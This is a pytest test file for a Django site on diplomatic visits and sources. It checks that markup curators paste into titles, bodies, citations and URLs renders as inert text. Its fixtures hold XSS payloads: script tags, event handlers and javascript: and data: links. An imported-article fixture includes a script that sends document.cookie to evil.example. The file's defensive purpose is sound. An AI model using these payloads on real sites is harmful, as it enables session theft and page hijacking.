"""Untrusted article text shows as text: no script, handler or javascript: link ever runs.

Every text a curator pastes (titles, bodies, quotes, summaries, names, notes, citations, URLs)
carries markup that would run if it were not escaped. Each page that shows one is parsed, and
its elements are checked: no script but the site's own, no event handler, no frame or image
from the text, no link whose address is not a web address or a page of the site.
"""

import html as html_module
import re
from html.parser import HTMLParser
from urllib.parse import urlencode

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from core import search
from ingest.articles.services import source_import
from sources.models import SourceDocument
from tests import factories
from tests.pages.test_views import body_of

pytestmark = pytest.mark.django_db

#: Markup that runs if rendered: short enough for a 120-character name.
SHORT = '<script>alert(1)</script><img src=x onerror="alert(2)">'
LONG = (
    '<script>alert("x")</script><img src=x onerror=alert(1)>'
    '<a href="javascript:alert(2)">click</a><iframe src="https://evil.example/"></iframe>'
    "<svg onload=alert(3)><script>alert(4)</script></svg>"
    '<a href="data:text/html;base64,PHNjcmlwdD4=">data</a><object data="x.swf"></object>'
)
#: What must show instead: the markup as text.
ESCAPED_SCRIPT = "&lt;script&gt;alert("
BAD_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "data:text/html,x",
]
#: Elements no page may carry (the site itself uses none of them).
FOREIGN_ELEMENTS = {"iframe", "object", "embed", "img", "frame", "base"}
WEB_OR_LOCAL = re.compile(r"^(https?://|/|\?|#)", re.IGNORECASE)
#: The site's own empty icon (it spares browsers a request for /favicon.ico).
SITE_ICON = ("link", "href", "data:,")
JSON = "application/json"
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}


class ElementAudit(HTMLParser):
    """Collect what in a page could run: scripts, handlers, foreign elements, odd links."""

    def __init__(self, *, admin=False):
        super().__init__(convert_charrefs=True)
        self.admin = admin
        self.problems = []
        self.marks = 0

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script" and not attributes.get("src") and attributes.get("type") != JSON:
            self.problems.append(f"inline script {attrs}")
        if tag in FOREIGN_ELEMENTS and not (self.admin and tag == "img"):
            self.problems.append(f"<{tag}> {attrs}")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"handler {name}={value!r} on <{tag}>")
            odd_url = value and not WEB_OR_LOCAL.match(value.strip())
            if name in URL_ATTRIBUTES and odd_url and (tag, name, value) != SITE_ICON:
                self.problems.append(f"{name}={value!r} on <{tag}>")
        if tag == "mark":
            self.marks += 1

    def handle_endtag(self, tag):
        if tag == "mark":
            self.marks -= 1
            if self.marks < 0:
                self.problems.append("a </mark> without its <mark>")


def audit(html, *, admin=False):
    """Return the problems found in a page (an empty list for a safe page)."""
    parser = ElementAudit(admin=admin)
    parser.feed(html)
    parser.close()
    return parser.problems


def page(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    return body_of(response)


@pytest.fixture
def world():
    """Return records whose every text field carries markup, linked so every page shows them."""
    from types import SimpleNamespace

    w = SimpleNamespace()
    w.country = factories.CountryFactory(name=f"Land {SHORT}", slug="land")
    w.actor = factories.ActorFactory(
        name=f"Khan {SHORT}", slug="khan", country=w.country, description=f"About {LONG}"
    )
    factories.ActorAliasFactory(actor=w.actor, name=f"PM {SHORT}")
    factories.ActorRoleFactory(actor=w.actor, title=f"Chief {SHORT}", organisation=w.country)
    w.host = factories.ActorFactory(name=f"Host {SHORT}", slug="host")
    w.issue = factories.IssueFactory(
        name=f"Border {SHORT}", slug="border", description=f"Issue {LONG}"
    )
    w.child = factories.IssueFactory(name=f"Fence {SHORT}", slug="fence", parent=w.issue)
    w.visit = factories.VisitFactory(
        title=f"Khan visits {SHORT}",
        slug="khan-visits",
        visitor=w.actor,
        origin=w.country,
        destination=w.country,
        city=f"City {SHORT}",
        summary=f"Talks on the border {LONG}",
        issues=[w.issue],
    )
    factories.ParticipationFactory(visit=w.visit, actor=w.host, note=f"Note {SHORT}")
    body = (
        f"Khan crossed the border. {LONG}\n\n"
        f"The envoy said the border talks went well {SHORT} and more.\n\n"
        f"Control characters \x03 stray \x02 around the border remain text."
    )
    w.source = factories.SourceDocumentFactory(
        title=f"Border report {SHORT}",
        slug="border-report",
        publisher=f"Press {SHORT}",
        authors=f"A. Writer {SHORT}; B. Writer",
        url="javascript:alert(1)",
        body=body,
        raw_text=body,
    )
    w.source.visits.add(w.visit)
    w.source.issues.add(w.issue)
    w.source.actors.add(w.actor)
    factories.CitationFactory(source=w.source, label="<b>1</b>", text=f"Cited {LONG}", url="")
    for number, url in enumerate(BAD_URLS, start=2):
        factories.CitationFactory(source=w.source, label=str(number), text="Bad link", url=url)
    factories.CitationFactory(
        source=w.source, label="9", text="Good link", url='https://example.org/?a="><script>'
    )
    w.claim = factories.ClaimFactory(
        source=w.source,
        quote=f"The envoy said the border talks went well {SHORT}",
        summary=f"Talks went well {SHORT}",
        status="disputed",
        status_note=f"Disputed {SHORT}",
        speaker=w.host,
        visit=w.visit,
        issues=[w.issue],
        actors=[w.actor],
    )
    w.claim.disputed_by.add(w.host)
    w.other_source = factories.SourceDocumentFactory(slug="plain", url="data:text/html,x")
    return w


def public_pages(w):
    return [
        "/",
        "/visits/",
        "/actors/",
        "/issues/",
        "/claims/",
        "/sources/",
        w.visit.get_absolute_url(),
        w.actor.get_absolute_url(),
        w.country.get_absolute_url(),
        w.host.get_absolute_url(),
        w.issue.get_absolute_url(),
        w.child.get_absolute_url(),
        w.claim.get_absolute_url(),
        w.source.get_absolute_url(),
        w.other_source.get_absolute_url(),
        "/visits/?issue=border&leader=khan",  # chips and facets name them too
        "/claims/?actor=khan&speaker=host",
        "/sources/?" + urlencode({"publisher": w.source.publisher}),
    ]


def test_every_public_page_shows_pasted_markup_as_text(client, world):
    for url in public_pages(world):
        html = page(client, url)

        assert audit(html) == [], url
        assert "<script>alert" not in html and "<svg onload" not in html, url
    source_page = page(client, world.source.get_absolute_url())
    assert source_page.count(ESCAPED_SCRIPT) >= 4  # title, body, quote, citation
    assert "Cited &lt;script&gt;" in source_page


def test_the_quote_is_highlighted_in_the_escaped_body(client, world):
    html = page(client, world.source.get_absolute_url())

    mark = re.search(rf'<mark class="quote" id="claim-{world.claim.pk}">(.*?)</mark>', html, re.S)
    assert mark is not None
    assert "border talks went well &lt;script&gt;alert(1)&lt;/script&gt;" in mark.group(1)


def test_citation_and_source_links_are_only_web_links(client, world):
    html = page(client, world.source.get_absolute_url())
    other = page(client, world.other_source.get_absolute_url())

    hrefs = re.findall(r'<a [^>]*href="([^"]*)"', html + other)
    assert [href for href in hrefs if not WEB_OR_LOCAL.match(href)] == []
    # The good link is kept, its quote and brackets escaped inside the attribute.
    assert 'https://example.org/?a="><script>' in [html_module.unescape(href) for href in hrefs]
    assert 'href="https://example.org/?a="' not in html
    assert "Bad link" in html  # the note is shown, without its link
    for url in BAD_URLS:
        assert f'href="{url}' not in html
    assert "Original" not in other  # a source link that is not a web link is left out


@pytest.mark.parametrize("query", ["border", "envoy", "alert", "script", "Khan"])
def test_search_snippets_are_escaped_except_their_highlights(client, world, query):
    html = page(client, f"/search/?q={query}")

    assert audit(html) == [], query
    assert "<script>alert" not in html


def test_search_headlines_keep_their_own_marks_only(client, world):
    html = page(client, "/search/?q=border")

    snippets = re.findall(r'<p class="snippet">(.*?)</p>', html, re.S)
    assert snippets, "the sources section shows a snippet of the body"
    assert any("<mark>" in snippet for snippet in snippets)
    for snippet in snippets:
        stripped = snippet.replace("<mark>", "").replace("</mark>", "")
        assert "<" not in stripped, snippet  # every other angle bracket is escaped text
        assert audit(snippet) == [], snippet


@pytest.mark.parametrize("path", ["/visits/", "/claims/", "/sources/", "/actors/"])
def test_list_search_snippets_are_escaped(client, world, path):
    html = page(client, f"{path}?q=border")

    assert audit(html) == [], path
    assert "<script>alert" not in html


def test_headline_sentinels_pasted_into_a_text_never_unbalance_the_marks(world):
    rows = search.attach_headlines([world.source], "border", "body")

    snippet = str(rows[0].headline)
    assert "<mark>" in snippet
    assert audit(f"<p>{snippet}</p>") == []
    assert "\x02" not in snippet and "\x03" not in snippet


def test_admin_pages_show_pasted_markup_as_text(editor_client, world):
    urls = [
        reverse("admin:visits_visit_changelist"),
        reverse("admin:visits_visit_change", args=[world.visit.pk]),
        reverse("admin:actors_actor_change", args=[world.actor.pk]),
        reverse("admin:visits_issue_change", args=[world.issue.pk]),
        reverse("admin:sources_sourcedocument_change", args=[world.source.pk]),
        reverse("admin:sources_citation_changelist"),
        reverse("admin:claims_claim_changelist"),
        reverse("admin:claims_claim_change", args=[world.claim.pk]),
        reverse("admin:actors_actor_duplicates"),
    ]
    for url in urls:
        html = page(editor_client, url)

        assert audit(html, admin=True) == [], url
        assert "<script>alert" not in html, url


HTML_ARTICLE = """<!doctype html>
<html><head><title>Envoy visits Kabul</title>
<script>document.location='https://evil.example/?'+document.cookie</script>
<style>body { background: url(javascript:alert(1)) }</style></head>
<body onload="alert('body')">
<article>
<h1>Envoy visits Kabul</h1>
<p class="byline">By Sara Ahmed</p>
<p>The envoy arrived in Kabul on Monday <img src=x onerror="alert('img')"> and met the
foreign minister to discuss refugees, trade and the border.<sup><a href="#fn1">1</a></sup></p>
<p>Both sides agreed to meet again in April. <a href="javascript:alert('link')">Read more</a>
<iframe src="https://evil.example/frame"></iframe></p>
<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<p>A reader wrote &lt;script&gt;alert('escaped')&lt;/script&gt; in the comments.</p>
<ol class="footnotes"><li id="fn1"><a href="javascript:alert('note')">A report</a>,
Example News, 2021.</li><li id="fn2">Another report, <a href="data:text/html,x">here</a>.</li>
</ol>
</article></body></html>
"""


def test_an_imported_html_article_shows_inert(client):
    source = source_import(raw_text=HTML_ARTICLE, filename="envoy.html")
    source.publication_status = "published"
    source.save()

    html = page(client, source.get_absolute_url())

    assert audit(html) == []
    assert "document.cookie" not in source.body  # the page's own script is not article text
    assert "The envoy arrived in Kabul" in html
    assert "A reader wrote" in html
    assert "<script" not in html.split("<main", 1)[1]
    for citation in source.citations.all():
        assert citation.url == "" or citation.url.startswith(("http://", "https://"))


def test_an_html_upload_through_the_admin_shows_inert(editor_client, client):
    upload = SimpleUploadedFile("envoy.html", HTML_ARTICLE.encode(), content_type="text/html")

    response = editor_client.post(reverse("admin:sources_sourcedocument_add"), {"file": upload})

    assert response.status_code == 302
    source = SourceDocument.objects.get()
    change = page(editor_client, response["Location"])
    assert audit(change, admin=True) == []
    source.publication_status = "published"
    source.save()
    assert audit(page(client, source.get_absolute_url())) == []
